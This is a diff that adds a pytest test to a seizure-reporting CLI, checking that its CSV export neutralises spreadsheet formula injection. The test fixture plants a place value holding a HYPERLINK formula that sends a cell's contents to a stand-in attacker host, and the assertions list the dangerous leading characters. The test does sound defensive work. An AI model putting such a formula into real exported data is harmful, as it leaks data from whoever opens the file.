@@ -69,6 +69,41 @@ def test_a_bad_month_is_a_sentence(run: CliRunner, month: str) -> None:
     assert "--month:" in done.stderr and "Traceback" not in done.output
 
 
+def test_csv_cells_cannot_start_a_formula(run: CliRunner, sqlite_url: str) -> None:
+    # Public reports are untrusted text: a place written as a formula stays text.
+    import dataclasses
+    from datetime import datetime
+
+    from tests.analytics.builders import make_seizure
+
+    from kordon.domain import SeizureSource
+
+    store = open_store(sqlite_url)
+    try:
+        with store.transaction() as uow:
+            hostile = make_seizure(0, quantity=900.0, source=SeizureSource.OPEN_SOURCE,
+                                   recorded_at=datetime(2026, 11, 9),
+                                   place='=HYPERLINK("http://evil.example/?"&A1,"x")')  # fmt: skip
+            uow.seizures.add(dataclasses.replace(hostile, id=None))
+    finally:
+        store.close()
+    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11", "--format", "csv"])
+    assert done.exit_code == 0, done.output
+    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    dangerous += [c for c in cells if c.startswith("-") and not _number(c)]
+    assert not dangerous, dangerous
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 @pytest.mark.parametrize(
     ("lang", "title", "heroin", "column"),
     [
